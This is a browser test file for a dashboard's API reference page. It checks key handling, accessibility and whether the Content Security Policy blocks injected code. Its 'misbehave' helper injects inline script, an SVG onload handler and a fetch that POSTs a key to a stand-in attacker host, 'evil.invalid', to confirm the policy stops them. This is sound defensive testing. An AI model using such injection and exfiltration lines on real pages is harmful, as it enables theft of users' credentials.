/**
 * The API reference at `/docs` in a real browser: it shares the dashboard's origin, so nothing else may run in it or be reached from
 * it.
 *
 * Planted and seen red: no policy of its own; a scheme named `Bearer`, which the page shows as user name and password; a body without
 * an example, which the page fills with empty texts; no preselected scheme, so that there is no field for the key; no language, as the
 * library's page has none.
 */
import type { Page } from "playwright-core"
import { assert, it } from "vitest"
import { waitUntil } from "../http/waiting.ts"
import { useDashboard } from "./dashboard.ts"

const dashboard = useDashboard()

const open = async (operation = "tag/account/GET/v1/models"): Promise<Page> => {
  const page = await dashboard.open({ path: `/docs#${operation}` })
  await page.getByRole("heading", { level: 1, name: "Sightline" }).waitFor()
  return page
}

/** Opens the try-out of a call, types a key into it, and sends the request as the page has prepared it. */
const tryOut = async (page: Page, path: string, key: string) => {
  await page.getByRole("button", { name: new RegExp(`Test Request.*${path}`) }).click()
  const client = page.getByRole("dialog")
  await client.getByPlaceholder("Token").fill(key)
  const [answer] = await Promise.all([
    page.waitForResponse(`${dashboard.base}${path}`),
    client.getByRole("button", { name: /Send (?:get|post) request/ }).click()
  ])
  return answer
}

/** The page tries once whether it may use eval, and continues without it. */
const forgetEvaluation = () => {
  const others = dashboard.violations.reports.filter((report) => !report.startsWith("script-src eval "))
  dashboard.violations.reports.splice(0, Infinity, ...others)
}

it("calls the API with a key that is typed into it, and stores the key nowhere", async () => {
  const { key } = await dashboard.newCustomer()
  const page = await open()
  assert.strictEqual((await tryOut(page, "/v1/models", key)).status(), 200)
  const stored = await page.evaluate(() =>
    JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), location.href])
  )
  assert.notInclude(stored, key.slice("lvk_test_".length, -8))
  forgetEvaluation()
})

/** Tries to run text as code and to reach another origin from within the page. Runs in the page. */
const misbehave = () => {
  const add = (name: string, attributes: object) =>
    document.body.append(Object.assign(document.createElement(name), attributes))
  add("script", { textContent: "globalThis.ran = 1" })
  add("script", { src: "/assets/x.js" })
  add("img", { src: "https://evil.invalid/x.png" })
  document.body.insertAdjacentHTML("beforeend", "<svg onload='globalThis.ran = 1'></svg>")
  fetch("https://evil.invalid/", { method: "POST", body: "key" }).catch(() => undefined)
}

it("runs no other script, and sends requests only to its own server", async () => {
  const page = await open()
  await page.evaluate(misbehave)
  const stopped = [
    "script-src-elem inline ",
    `script-src-elem ${dashboard.base}/assets/x.js `,
    "script-src-attr inline ",
    "img-src https://evil.invalid/x.png ",
    "connect-src https://evil.invalid/ "
  ]
  await waitUntil("what the policy stops", () =>
    stopped.every((report) => dashboard.violations.reports.includes(report))
  )
  assert.isUndefined(await page.evaluate(() => Reflect.get(globalThis, "ran")))
  for (const seen of Object.values(dashboard.violations)) seen.length = 0
})

it("has a field for the key on its first page", async () => {
  const page = await open()
  await page.getByRole("main").getByPlaceholder("Token").first().waitFor()
  forgetEvaluation()
})

it("sends a check at one click", async () => {
  const { key } = await dashboard.newCustomer()
  const page = await open("tag/check/POST/v1/check")
  assert.strictEqual((await tryOut(page, "/v1/check", key)).status(), 200)
  forgetEvaluation()
})

it("declares its language, for screen readers", async () => {
  const page = await open()
  assert.strictEqual(await page.getAttribute("html", "lang"), "en")
  forgetEvaluation()
})
